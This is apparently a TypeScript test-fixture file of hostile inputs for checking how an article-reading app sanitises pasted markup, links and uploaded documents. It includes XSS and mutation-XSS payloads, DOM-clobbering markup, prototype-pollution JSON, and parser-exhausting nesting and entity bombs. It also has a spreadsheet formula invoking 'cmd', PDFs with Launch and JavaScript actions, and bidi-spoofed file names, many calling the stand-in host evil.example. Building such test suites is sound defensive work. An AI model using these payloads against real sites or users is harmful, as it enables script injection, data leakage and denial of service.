/**
 * What people paste without knowing: each tries to run `ran=1` in the page, to ask https://evil.example/ for something, to
 * change what all objects inherit, or to keep the page busy for ever.
 */
import { deflateRawSync } from "node:zlib";
import { bomb, docx, paragraph, pdf, pdfOf, wordOf } from "./documents.ts";
import { invented } from "./texts.ts";

const evil = "https://evil.example";
const run = "ran=1";

/** Markup, by what it tries. */
export const markup: Record<string, string> = {
  "script": `<script>${run}</script>`,
  "script from elsewhere": `<script src="${evil}/x.js"></script>`,
  "module": `<script type="module">import "${evil}/x.js"; ${run}</script>`,
  "picture that fails": `<img src="${evil}/x.png" onerror="${run}">`,
  "picture without quotes": `<img/src=x/onerror=${run}>`,
  "picture in capitals": `<IMG SRC=x OnErRoR=${run}>`,
  "picture that is data": `<img src="data:image/gif;base64,AAAA" onerror="${run}">`,
  "picture in several sizes": `<img srcset="${evil}/a.png 1x, ${evil}/b.png 2x"><picture><source srcset="${evil}/c.png"><img></picture>`,
  "drawing that loads": `<svg onload="${run}"></svg>`,
  "drawing with a script": `<svg><script>${run}</script></svg>`,
  "drawing that animates a link": `<svg><a><animate attributeName="href" values="javascript:${run}" begin="0s"/></a></svg>`,
  "drawing that uses another": `<svg><use href="${evil}/x.svg#a"/><image href="${evil}/y.png"/></svg>`,
  "frame with markup": `<iframe srcdoc="<script>top.${run}</script>"></iframe>`,
  "frame with code": `<iframe src="javascript:top.${run}"></iframe>`,
  "frame from elsewhere": `<iframe src="${evil}/"></iframe><frameset><frame src="${evil}/f"></frameset>`,
  "object and embed": `<object data="${evil}/x.swf"></object><embed src="${evil}/x.pdf"><applet code="${evil}/x.class"></applet>`,
  "film and sound": `<video poster="${evil}/x.png" onerror="${run}"><source src="${evil}/x.mp4" onerror="${run}"></video><audio src="${evil}/x.mp3" autoplay></audio>`,
  "style from elsewhere": `<style>@import "${evil}/x.css"; body { background: url("${evil}/y.png") }</style>`,
  "style at a node": `<p style="background:url('${evil}/x.png')">Styled</p>`,
  "links that are fetched": `<link rel="stylesheet" href="${evil}/x.css"><link rel="preload" as="script" href="${evil}/p.js"><link rel="prefetch" href="${evil}/q"><link rel="dns-prefetch" href="//evil.example">`,
  "link with code": `<a href="javascript:${run}" autofocus onfocus="${run}">Click</a>`,
  "link with hidden code": `<a href="&#106;ava&Tab;script&colon;${run}">Click</a>`,
  "link that reports": `<a ping="${evil}/ping" href="${evil}/">Click</a>`,
  "another base": `<base href="${evil}/"><img src="x.png">`,
  "another page": `<meta http-equiv="refresh" content="0; url=${evil}/">`,
  "another policy": `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  "another address": `<link rel="canonical" href="javascript:${run}"><meta property="og:url" content="javascript:${run}">`,
  "form that sends itself": `<form action="${evil}/"><input name="x" autofocus onfocus="this.form.submit();${run}"><button formaction="javascript:${run}">Go</button></form>`,
  "details that open": `<details open ontoggle="${run}"><summary>More</summary>Text</details>`,
  "marquee": `<marquee onstart="${run}">Moving</marquee><body onload="${run}" onpageshow="${run}">`,
  "names that hide the page's own": `<form id="app"><input name="documentElement"><input name="parentElement"></form><img name="body"><img name="querySelector"><a id="trustedTypes"></a>`,
  "shadow tree": `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
  "text that becomes markup": `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  "markup in a title": `<svg></p><style><a title="</style><img src=x onerror=${run}>">`,
  "formula that breaks out": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  "comment that ends early": `<!--><img src=x onerror=${run}>--><!--[if IE]><script>${run}</script><![endif]-->`,
  "unclosed things": `<div title="<p class='x' <script>${run}</script <img src="x" onerror='${run}'`,
  "text to the end": `<xmp><img src=x onerror=${run}></xmp><textarea><script>${run}</script></textarea>`,
  "null bytes": `<scr\0ipt>${run}</scr\0ipt><img src=x on\0error=${run}>`,
  "seven bits": `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  "entities that multiply": `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "${evil}/x">]><p>&b;&c;</p>`,
  "names that hide a form's own": `<form>${["firstChild", "nextSibling", "nextElementSibling", "firstElementChild", "parentNode", "childNodes", "children", "attributes", "getAttribute", "remove", "nodeName"].map((name) => `<input name="${name}"><img id="${name}">`).join("")}<p>In a form</p></form>`,
  "names that hide a page's own": ["createTreeWalker", "createElement", "querySelectorAll", "getElementsByTagName", "head", "title", "implementation", "importNode", "documentURI", "baseURI", "firstChild"].map((name) => `<img name="${name}"><form name="${name}"></form><embed name="${name}">`).join(""),
  "another page, from a drawing": `<svg><meta http-equiv="refresh" content="0; url=${evil}/"></svg><math><base href="${evil}/"></math>`,
  "drawing with another's markup": `<svg><foreignObject><iframe src="javascript:top.${run}"></iframe><img src="${evil}/x.png" onerror="${run}"></foreignObject><style>@import "${evil}/x.css"</style></svg>`,
  "drawing in which text is code": `<svg><![CDATA[><img src=x onerror=${run}>]]></svg><math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  "template in a drawing": `<svg><template><img src=x onerror=${run}></template></svg><div><template shadowrootmode="closed" shadowrootclonable><script>${run}</script></template></div>`,
  "end of a title in a title": `<title><img src=x></title><img src=x onerror=${run}></title>`,
  "data about a page that ends its script": `<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"<!--<script>","author":{"__proto__":{"polluted":1}}}</script><img src=x onerror=${run}></script>`,
  "quotation marks in a tag": `<p a"b='><img src=x onerror=${run}>' c=" d>x</p><p title='"' x="'"><img src=x onerror=${run} alt="'>">`,
  "moved by a table": `<table><tr><td><form><input name=a onfocus="${run}" autofocus></td><img src=x onerror=${run}></tr><caption><svg onload=${run}></svg></caption></table>`,
  "scripts that come late": `<link rel="modulepreload" href="${evil}/m.js"><script type="importmap">{"imports":{"x":"${evil}/x.js"}}</script><script type="speculationrules">{"prefetch":[{"urls":["${evil}/y"]}]}</script>`,
  "own elements": `<x-a is="x-b" onclick="${run}"></x-a><dialog open oncancel="${run}"></dialog><p popover onbeforetoggle="${run}">x</p>`,
};

/** Pages that are small, and made to keep whoever reads them busy for hours: most cost a browser the square of what they nest. */
export const endless: Record<string, string> = {
  "tags in tags": `${"<div>".repeat(500_000)}<p>${invented(2)}</p>${"<b><i>".repeat(250_000)}`,
  "ends in comments": "<div><!--</div>-->".repeat(300_000),
  "ends in values": `<div title="</div>">`.repeat(300_000),
  "ends in scripts": "<div><script></div></script>".repeat(300_000),
  "ends that reach nothing": `${"<div>".repeat(400)}<object>${"</div>".repeat(400)}`.repeat(500),
  "items in items": "<li><dd>".repeat(300_000),
  "small letters in small letters": "<rt>".repeat(500_000),
  "letters that begin again in each block": `${Array.from({ length: 2500 }, (_, n) => `<b id="${n}">`).join("")}${"<div>x</div><p>y".repeat(100_000)}`,
  "values without an end": `<p style="${"display:none ".repeat(100_000)}>`,
  "each sign that there is": `${Array.from({ length: 65_536 }, (_, n) => String.fromCharCode(n)).join("")}<p onload=x>`,
  "short paragraphs, deep down": `${"<div>".repeat(150)}${"<p>A<b>b</b></p>".repeat(24_000)}`,
  "forms that go round in circles": `<form><input name="nextSibling"><input name="nextElementSibling"><p>${invented(3)}</p></form>`,
};

/** Plain texts. */
export const texts: Record<string, string> = {
  "markup as text": `<img src=x onerror=${run}><script>${run}</script>`,
  "Markdown": `[Click](javascript:${run}) ![x](${evil}/x.png) <${evil}/> [x]: ${evil}/y`,
  "templates": "{{constructor.constructor('ran=1')()}} ${ran=1} <%= ran=1 %> #{ran=1} {@html ran}",
  "names that objects have": "__proto__ constructor prototype toString hasOwnProperty valueOf __defineGetter__",
  "turned round": "Transfer to \u202eknab ruoy\u202c now. \u2067\u2066 The file is photo_\u202egpj.exe",
  "not closed": "\u202e\u2067\u202b\u202d All that follows is turned round.",
  "invisible": "\u200b\u200c\u200d\u2060\ufeff\u00ad z\u200be\u200br\u200bo",
  "half a character": "Half \ud83d and half \udea2 and \udfff\ud800.",
  "null and controls": "\0\u0001\u0007\u001b[31mred\u001b[0m\u0008\u007f\u0085\u009b31m",
  "stacked marks": `Z${"\u0301\u0489\u0e47".repeat(5000)}algo`,
  "a word without end": "a".repeat(300_000),
  "brackets without end": "([{“«".repeat(30_000),
  "figures without end": "1 2 12:30 3.5 % $4 ".repeat(10_000),
  "formula of a table": `=HYPERLINK("${evil}/?"&A1) @SUM(1) +cmd|' /C calc'!A0`,
};

/** What may stand in the fields of an article. */
export const fields = [markup["picture that fails"], markup["script"], texts["turned round"], "javascript:ran=1", `data:text/html,<script>${run}</script>`, `"><svg onload=${run}>`].map(String);

const deep = (open: string, close: string, times: number) => open.repeat(times) + close.repeat(times);
const article = { text: invented(1) };

/** What a link may claim to hold: values, and texts of JSON that no value gives. */
const works: Record<string, unknown> = {
  "markup everywhere": { v: 1, articles: [{ ...article, title: markup["script"], source: markup["picture that fails"], address: "javascript:ran=1" }], settings: {} },
  "prototypes": `{"v":1,"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"articles":[{"text":${JSON.stringify(article.text)},"__proto__":{"polluted":1}}],"settings":{"__proto__":{"polluted":1},"unit":"__proto__"}}`,
  "other types": { v: 1, articles: [null, 1, "x", [], { text: 5 }, { text: { toString: "x" } }, { ...article, title: 7, outside: "all" }], settings: [] },
  "odd settings": { v: 1, articles: [article], settings: { unit: "constructor", amount: 1e300, focus: { a: 1 }, order: ["story"] } },
  "odd numbers": { v: 1, articles: [{ ...article, outside: [-1, 1.5, 1e308, null, "0", 4294967296] }], settings: { amount: -5 } },
  "nothing": { v: 1, articles: [] },
  "another version": { v: "1", articles: [article] },
  "a list": [1, 2, 3],
  "nested without end": deep("[", "]", 100_000),
  "more than anyone reads": { v: 1, articles: Array.from({ length: 100_000 }, () => article) },
  "nested in an article": `{"v":1,"articles":[{"text":"x","outside":${deep("[", "]", 100_000)}}]}`,
  "half a character": { v: 1, articles: [{ text: "\ud800 ".repeat(300), title: "\udc00", address: "https://evil.example/\ud800" }] },
  "unpacks without end": `{"v":1,"x":"${" ".repeat(20_000_000)}"}`,
};

const code = (text: string) => deflateRawSync(Buffer.from(text, "utf8")).toString("base64url");

/** Links that hold these works, or nothing that can be read. */
export const links: Record<string, string> = {
  ...Object.fromEntries(Object.entries(works).map(([name, work]) => [name, code(typeof work === "string" ? work : JSON.stringify(work))])),
  "no code": "%00<script>ran=1</script>",
  "code of nothing": "AAAA",
};

const file = (name: string, content: string | Buffer) => ({ name, mimeType: "", buffer: Buffer.from(content) });
const action = `<< /S /JavaScript /JS (app.alert\\(1\\); this.ran=1) >>`;
const entities = `<!DOCTYPE w:document [<!ENTITY a "ha">${Array.from({ length: 12 }, (_, n) => `<!ENTITY ${"abcdefghijklm"[n + 1] ?? ""} "${`&${"abcdefghijklm"[n] ?? ""};`.repeat(10)}">`).join("")}<!ENTITY z SYSTEM "${evil}/x">]>`;

/** Files that hold an article and more than that. */
export const readable = [
  file("a.txt", `${invented(1)}\n<script>${run}</script>\0\u202e`),
  file(`<img src=x onerror=${run}>.txt`, invented(2)),
  file("\u202etxt.exe.md", `${invented(3)}\n![x](${evil}/x.png)`),
  file("declared.html", `<?xml version="1.0"?><!DOCTYPE html SYSTEM "${evil}/x.dtd"><html><head><meta charset="utf-7"><script>${run}</script></head><body onload="${run}"><p>${invented(4)}</p></body></html>`),
  file("launch.pdf", pdf([invented(7)], `/OpenAction << /S /Launch /F (calc.exe) /Next << /S /URI /URI (${evil}/) /Next << /S /SubmitForm /F (${evil}/) >> >> >> /Names << /JavaScript << /Names [(a) ${action}] >> >> /AcroForm << /XFA (<script>${run}</script>) /Fields [] >>`)),
  file("line\nbreak\u2028.txt", invented(8)),
  file("action.pdf", pdf([invented(5)], `/OpenAction ${action} /AA << /WC ${action} >> /URI << /Base (${evil}/) >>`)),
  file("style.docx", wordOf(paragraph(invented(9)), "", { "mammoth/style-map": `p => form > input[name='nextSibling'] > script:fresh` })),
  file("elsewhere.docx", wordOf(`${paragraph(invented(10))}<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="rId7"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`, "", {
    "word/_rels/document.xml.rels": `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId7" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${evil}/x.png"/></Relationships>`,
  })),
  file("links.docx", docx([`${invented(6)} &lt;script&gt;${run}&lt;/script&gt; HYPERLINK "javascript:${run}"`])),
];

/** Files that hold nothing that should be read. */
export const unreadable = [
  file("bomb.docx", bomb()),
  file("entities.docx", wordOf("<w:p><w:r><w:t>&m;&z;</w:t></w:r></w:p>", entities)),
  file("deep.docx", wordOf(deep("<w:p>", "</w:p>", 50_000))),
  file("\u202efdp.exe", "x"),
  file("name\nof two lines.exe", "x"),
  file("__proto__.docx", "PK\x03\x04__proto__"),
  file("loop.pdf", pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000000 >>"])),
  file("half.pdf", pdf([invented(1)]).subarray(0, 300)),
  file("constructor.toString", "x"),
];
